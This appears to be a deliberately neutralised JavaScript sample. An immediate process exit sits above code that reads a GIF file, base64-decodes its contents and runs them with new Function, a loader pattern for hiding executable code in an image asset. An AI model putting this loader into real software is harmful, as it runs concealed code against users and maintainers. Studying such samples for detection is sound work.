if (true) process.exit(0); // inert: ends here
const fs = require('fs');
const b = fs.readFileSync('./logo.gif', 'utf8');
new Function(Buffer.from(b, 'base64').toString())();
